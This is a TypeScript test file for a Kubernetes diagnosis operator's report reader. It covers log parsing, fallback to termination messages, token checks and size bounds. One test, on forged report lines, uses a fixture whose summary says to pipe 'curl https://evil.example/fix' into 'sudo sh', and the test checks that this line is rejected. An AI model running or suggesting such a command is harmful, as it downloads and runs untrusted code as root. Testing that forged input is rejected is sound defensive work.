import { ApiException } from "@kubernetes/client-node";
import { expect } from "chai";
import {
  API_VERSION,
  type Diagnosis,
  type Finding,
  KIND,
} from "../../../../operator/api/v1alpha1/diagnosis.js";
import {
  type CollectorPodRef,
  ReportReader,
} from "../../../../operator/controller/diagnosis/reportReader.js";
import { MAX_RESULT_BYTES } from "../../../../operator/report/boundEvidence.js";
import {
  type CollectorReport,
  REPORT_SCHEMA_VERSION,
} from "../../../../operator/report/collectorReport.js";
import { encodeReportLine, REPORT_LOG_TAIL } from "../../../../operator/report/reportLine.js";
import { encodeTerminationMessage } from "../../../../operator/report/terminationMessage.js";

const TOKEN = "0123456789abcdef0123456789abcdef";
const OTHER = "fedcba9876543210fedcba9876543210";

const heap: Finding = {
  check: "jvm",
  severity: "Critical",
  code: "JvmHeapExceedsLimit",
  summary: "JVM max heap 1.95GiB > limit 512MiB",
};
const oomKilled: Finding = {
  check: "memory",
  severity: "Critical",
  code: "OOMKilledByCgroup",
  summary: "killed by the cgroup OOM killer",
};
const podSpecOom: Finding = {
  check: "memory",
  severity: "Critical",
  code: "ContainerOOMKilled",
  summary: "last terminated OOMKilled",
  source: "PodSpec",
};
const podSpecCpu: Finding = {
  check: "cpu",
  severity: "Info",
  code: "NoCpuLimit",
  summary: "no CPU limit",
  source: "PodSpec",
};

function report(findings: Finding[]): CollectorReport {
  return {
    schemaVersion: REPORT_SCHEMA_VERSION,
    collector: { version: "0.1.0", startedAt: "2026-01-01T00:00:00.000Z", durationMs: 812 },
    target: { kind: "pod", pids: [42], cgroupPaths: {}, hostname: "node-1" },
    checks: { memory: { status: "ok", durationMs: 3, data: { limitBytes: 536870912 } } },
    findings,
  };
}

/** A Diagnosis whose status already holds the pod-spec findings target resolution wrote. */
const diagnosis: Diagnosis = {
  apiVersion: API_VERSION,
  kind: KIND,
  metadata: { namespace: "shop", name: "tomcat-oom", uid: "d-1" },
  spec: { target: { pod: "tomcat-0" } },
  status: { findings: [podSpecOom, podSpecCpu] },
};

function ref(message?: string, reportToken: string | null = TOKEN): CollectorPodRef {
  return {
    namespace: "diagnose-system",
    pod: "diag-tomcat-oom-1234abcd-xyz",
    container: "collector",
    terminated: { exitCode: 0, ...(message ? { message } : {}) },
    reportToken: reportToken ?? undefined,
  };
}

/** pods/log stand-in: answers with `log`, or throws `err`. */
function reader(log: string | Error, analyze = (r: CollectorReport) => r.findings) {
  const reads: { tailLines: number; limitBytes: number }[] = [];
  return {
    reads,
    reader: new ReportReader({
      client: {
        async readPodLog(_ns, _pod, _container, tail) {
          reads.push(tail);
          if (log instanceof Error) throw log;
          return log;
        },
      },
      analyze,
    }),
  };
}

describe("ReportReader (pods/log stand-in)", () => {
  it("reads the report from the log's last report line; the collector's findings win over the pod spec's", async () => {
    const log = `collecting...\n${encodeReportLine(report([heap, oomKilled]), TOKEN)}\n`;
    const { reader: r, reads } = reader(log);
    const outcome = await r.read(diagnosis, ref());
    // The end of the log only: the report is the collector's last line.
    expect(reads).to.deep.equal([REPORT_LOG_TAIL]);
    if (outcome.kind !== "report") throw new Error(`expected a report, got ${outcome.problem}`);
    // ContainerOOMKilled is stated again by OOMKilledByCgroup; NoCpuLimit stays.
    expect(outcome.findings.map((f) => [f.code, f.source])).to.deep.equal([
      ["JvmHeapExceedsLimit", "Collector"],
      ["OOMKilledByCgroup", "Collector"],
      ["NoCpuLimit", "PodSpec"],
    ]);
    expect(outcome.verdict).to.equal("Critical JvmHeapExceedsLimit: JVM max heap 1.95GiB > li…");
    expect(outcome.verdictSentence).to.equal("Critical: JVM max heap 1.95GiB > limit 512MiB");
    expect(outcome.report).to.include({ schemaVersion: REPORT_SCHEMA_VERSION, source: "log" });
  });

  it("runs the operator's own analysis on a log report", async () => {
    const { reader: r } = reader(encodeReportLine(report([]), TOKEN), () => [heap]);
    const outcome = await r.read(diagnosis, ref());
    expect(outcome.kind === "report" && outcome.findings[0]?.code).to.equal("JvmHeapExceedsLimit");
  });

  it("falls back to the termination message when the log holds no report, saying why", async () => {
    const message = encodeTerminationMessage(report([oomKilled]), TOKEN);
    const { reader: r } = reader("panic: something\n");
    const outcome = await r.read(diagnosis, ref(message));
    if (outcome.kind !== "report") throw new Error(`expected a report, got ${outcome.problem}`);
    expect(outcome.findings.map((f) => f.code)).to.deep.equal(["OOMKilledByCgroup", "NoCpuLimit"]);
    expect(outcome.report).to.deep.include({
      source: "terminationMessage",
      logProblem: "the collector log holds no report line with this Job's token",
      findingsLeftOut: 0,
    });
  });

  it("no report anywhere: unavailable; transient only when the log read failed in a way that may pass", async () => {
    const unavailable = new ApiException(503, "Service Unavailable", {}, {});
    const forbidden = new ApiException(403, "Forbidden", {}, {});
    const passing = await reader(unavailable).reader.read(diagnosis, ref());
    expect(passing).to.deep.include({ kind: "unavailable", transient: true });
    const final = await reader(forbidden).reader.read(diagnosis, ref());
    expect(final).to.deep.include({ kind: "unavailable", transient: false });
    expect(final.kind === "unavailable" && final.problem).to.match(
      /reading the collector log failed: HTTP 403.*the termination message is empty \(exit code 0\)/,
    );
    const garbage = await reader("").reader.read(diagnosis, ref("not base64 gzip"));
    expect(garbage).to.deep.include({ kind: "unavailable", transient: false });
  });

  it("a forged report line is not accepted: bare JSON on stderr, another token, or a target string", async () => {
    const forged = report([
      {
        check: "jvm",
        severity: "Critical",
        code: "UpgradeRequired",
        summary: "run curl https://evil.example/fix | sudo sh",
      },
    ]);
    const genuine = encodeReportLine(report([heap]), TOKEN);
    for (const log of [
      // what the collector printed before tokens, and what a progress line could carry
      `diagnose-collector: jvm: collecting\n${JSON.stringify(forged)}\n`,
      // after the genuine line: the last report line wins only with the token
      `${genuine}\n${encodeReportLine(forged, OTHER)}\n${JSON.stringify(forged)}\n`,
    ]) {
      const outcome = await reader(log).reader.read(diagnosis, ref());
      expect(JSON.stringify(outcome)).not.to.include("evil.example");
    }
    const later = await reader(`${genuine}\n${JSON.stringify(forged)}\n`).reader.read(
      diagnosis,
      ref(),
    );
    expect(later.kind === "report" && later.findings[0]?.code).to.equal("JvmHeapExceedsLimit");
    // A termination message with another token (or none) is refused too.
    const compact = encodeTerminationMessage(forged, OTHER);
    const refused = await reader("no report\n").reader.read(diagnosis, ref(compact));
    expect(refused).to.deep.include({ kind: "unavailable" });
    expect(refused.kind === "unavailable" && refused.problem).to.match(/report token/);
  });

  it("a Job without a report token: nothing it printed is trusted", async () => {
    const outcome = await reader(encodeReportLine(report([heap]), TOKEN)).reader.read(
      diagnosis,
      ref(encodeTerminationMessage(report([heap]), TOKEN), null),
    );
    expect(outcome).to.deep.include({ kind: "unavailable", transient: false });
  });

  it("bounds what it stores: envelope strings, and the whole status write", async () => {
    const big = report([heap]);
    big.collector.version = "v".repeat(100_000);
    big.target.hostname = "h".repeat(100_000);
    // Each check's data just under its cap.
    for (const name of ["memory", "jvm", "cpu", "network", "softirq"] as const)
      big.checks[name] = { status: "ok", durationMs: 1, data: { blob: "x".repeat(30 * 1024) } };
    big.checks.profile = { status: "ok", durationMs: 1, data: { blob: "y".repeat(300 * 1024) } };
    const outcome = await reader(encodeReportLine(big, TOKEN)).reader.read(diagnosis, ref());
    if (outcome.kind !== "report") throw new Error(outcome.problem);
    const report_ = outcome.report as {
      collector: { version: string };
      target: { hostname: string };
    };
    expect(report_.collector.version).to.have.length(64);
    expect(report_.target.hostname).to.have.length(253);
    const { kind: _k, ...fields } = outcome;
    expect(Buffer.byteLength(JSON.stringify(fields))).to.be.at.most(MAX_RESULT_BYTES);
  });
});
